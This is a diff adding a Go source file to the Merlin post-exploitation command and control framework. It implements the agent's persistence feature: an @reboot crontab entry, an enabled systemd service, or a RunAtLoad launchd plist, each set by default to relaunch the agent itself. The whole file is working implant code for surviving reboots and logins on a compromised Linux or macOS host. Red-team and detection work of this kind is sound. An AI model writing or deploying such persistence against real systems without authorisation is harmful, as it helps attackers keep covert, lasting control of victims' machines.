@@ -0,0 +1,230 @@
+// +build !windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"bytes"
+	"encoding/xml"
+	"fmt"
+	"io/ioutil"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strings"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+)
+
+// persist adds or removes a cron, systemd, or launchd persistence mechanism on the agent's host
+func persist(p messages.Persist) (string, error) {
+	command := p.Command
+	if command == "" {
+		var err error
+		if command, err = commandLine(); err != nil {
+			return "", err
+		}
+	}
+	switch {
+	case p.Method == "cron":
+		return persistCron(p.Action, p.Name, command)
+	case p.Method == "systemd" && runtime.GOOS == "linux":
+		return persistSystemd(p.Action, p.Name, command)
+	case p.Method == "launchd" && runtime.GOOS == "darwin":
+		return persistLaunchd(p.Action, p.Name, command)
+	}
+	return "", fmt.Errorf("the %s persistence method is not supported on %s", p.Method, runtime.GOOS)
+}
+
+// commandLine returns the agent's own command line, quoted for the shell, to persist when no command was provided
+func commandLine() (string, error) {
+	exe, err := os.Executable()
+	if err != nil {
+		return "", fmt.Errorf("there was an error getting the agent's executable:\r\n%s", err.Error())
+	}
+	args := []string{exe}
+	args = append(args, os.Args[1:]...)
+	for i, arg := range args {
+		if arg == "" || strings.ContainsAny(arg, " \t'\"\\$`&;|<>()*?#") {
+			args[i] = "'" + strings.Replace(arg, "'", `'\''`, -1) + "'"
+		}
+	}
+	return strings.Join(args, " "), nil
+}
+
+// persistCron adds or removes an @reboot line in the user's crontab that is marked with the persistence name
+func persistCron(action, name, command string) (string, error) {
+	// crontab exits with an error when the user does not have a crontab yet
+	current, _ := exec.Command("crontab", "-l").Output() // #nosec G204
+	marker := " # " + name
+	var lines []string
+	var found bool
+	for _, line := range strings.Split(strings.TrimRight(string(current), "\n"), "\n") {
+		if strings.HasSuffix(line, marker) {
+			found = true
+			continue
+		}
+		if line != "" {
+			lines = append(lines, line)
+		}
+	}
+	switch action {
+	case "add":
+		if found {
+			return "", fmt.Errorf("the crontab already has an entry named %s", name)
+		}
+		lines = append(lines, "@reboot "+command+marker)
+	case "remove":
+		if !found {
+			return "", fmt.Errorf("the crontab does not have an entry named %s", name)
+		}
+	default:
+		return "", fmt.Errorf("%s is not a valid persist action", action)
+	}
+	crontab := ""
+	if len(lines) > 0 {
+		crontab = strings.Join(lines, "\n") + "\n"
+	}
+	cmd := exec.Command("crontab", "-") // #nosec G204
+	cmd.Stdin = strings.NewReader(crontab)
+	if out, err := cmd.CombinedOutput(); err != nil {
+		return "", fmt.Errorf("there was an error writing the crontab:\r\n%s %s", err.Error(), bytes.TrimSpace(out))
+	}
+	if action == "add" {
+		return fmt.Sprintf("Added the @reboot crontab entry %s", name), nil
+	}
+	return fmt.Sprintf("Removed the crontab entry %s", name), nil
+}
+
+// persistSystemd adds or removes a systemd service unit that is enabled to start the command. The unit is a user unit
+// that starts when the user logs in unless the agent is running as root, in which case it is a system unit.
+func persistSystemd(action, name, command string) (string, error) {
+	dir, target, args := "/etc/systemd/system", "multi-user.target", []string{}
+	if os.Geteuid() != 0 {
+		home, err := os.UserHomeDir()
+		if err != nil {
+			return "", fmt.Errorf("there was an error getting the user's home directory:\r\n%s", err.Error())
+		}
+		dir, target, args = filepath.Join(home, ".config", "systemd", "user"), "default.target", []string{"--user"}
+	}
+	unit := filepath.Join(dir, name+".service")
+	systemctl := func(a ...string) error {
+		out, err := exec.Command("systemctl", append(args, a...)...).CombinedOutput() // #nosec G204
+		if err != nil {
+			return fmt.Errorf("there was an error running systemctl %s:\r\n%s %s", strings.Join(a, " "), err.Error(), bytes.TrimSpace(out))
+		}
+		return nil
+	}
+	switch action {
+	case "add":
+		if _, err := os.Stat(unit); err == nil {
+			return "", fmt.Errorf("the systemd unit %s already exists", unit)
+		}
+		if err := os.MkdirAll(dir, 0700); err != nil {
+			return "", fmt.Errorf("there was an error creating the %s directory:\r\n%s", dir, err.Error())
+		}
+		data := fmt.Sprintf("[Unit]\nDescription=%s\n\n[Service]\nExecStart=/bin/sh -c %q\nRestart=on-failure\n"+
+			"RestartSec=60\n\n[Install]\nWantedBy=%s\n", name, command, target)
+		if err := ioutil.WriteFile(unit, []byte(data), 0600); err != nil {
+			return "", fmt.Errorf("there was an error writing the systemd unit %s:\r\n%s", unit, err.Error())
+		}
+		// The unit is only enabled; starting it now would run a second agent
+		if err := systemctl("enable", name+".service"); err != nil {
+			_ = os.Remove(unit)
+			return "", err
+		}
+		return fmt.Sprintf("Added and enabled the systemd unit %s", unit), nil
+	case "remove":
+		if _, err := os.Stat(unit); err != nil {
+			return "", fmt.Errorf("the systemd unit %s does not exist", unit)
+		}
+		if err := systemctl("disable", name+".service"); err != nil {
+			return "", err
+		}
+		if err := os.Remove(unit); err != nil {
+			return "", fmt.Errorf("there was an error removing the systemd unit %s:\r\n%s", unit, err.Error())
+		}
+		_ = systemctl("daemon-reload")
+		return fmt.Sprintf("Disabled and removed the systemd unit %s", unit), nil
+	}
+	return "", fmt.Errorf("%s is not a valid persist action", action)
+}
+
+// persistLaunchd adds or removes a launchd property list that runs the command when it is loaded at the next login,
+// or at boot when the agent is running as root
+func persistLaunchd(action, name, command string) (string, error) {
+	dir := "/Library/LaunchDaemons"
+	if os.Geteuid() != 0 {
+		home, err := os.UserHomeDir()
+		if err != nil {
+			return "", fmt.Errorf("there was an error getting the user's home directory:\r\n%s", err.Error())
+		}
+		dir = filepath.Join(home, "Library", "LaunchAgents")
+	}
+	plist := filepath.Join(dir, name+".plist")
+	switch action {
+	case "add":
+		if _, err := os.Stat(plist); err == nil {
+			return "", fmt.Errorf("the launchd property list %s already exists", plist)
+		}
+		var label, program bytes.Buffer
+		if err := xml.EscapeText(&label, []byte(name)); err != nil {
+			return "", err
+		}
+		if err := xml.EscapeText(&program, []byte(command)); err != nil {
+			return "", err
+		}
+		data := fmt.Sprintf(`<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
+<plist version="1.0">
+<dict>
+	<key>Label</key>
+	<string>%s</string>
+	<key>ProgramArguments</key>
+	<array>
+		<string>/bin/sh</string>
+		<string>-c</string>
+		<string>%s</string>
+	</array>
+	<key>RunAtLoad</key>
+	<true/>
+</dict>
+</plist>
+`, label.String(), program.String())
+		if err := os.MkdirAll(dir, 0700); err != nil {
+			return "", fmt.Errorf("there was an error creating the %s directory:\r\n%s", dir, err.Error())
+		}
+		if err := ioutil.WriteFile(plist, []byte(data), 0600); err != nil {
+			return "", fmt.Errorf("there was an error writing the launchd property list %s:\r\n%s", plist, err.Error())
+		}
+		return fmt.Sprintf("Added the launchd property list %s", plist), nil
+	case "remove":
+		if err := os.Remove(plist); err != nil {
+			if os.IsNotExist(err) {
+				return "", fmt.Errorf("the launchd property list %s does not exist", plist)
+			}
+			return "", fmt.Errorf("there was an error removing the launchd property list %s:\r\n%s", plist, err.Error())
+		}
+		return fmt.Sprintf("Removed the launchd property list %s", plist), nil
+	}
+	return "", fmt.Errorf("%s is not a valid persist action", action)
+}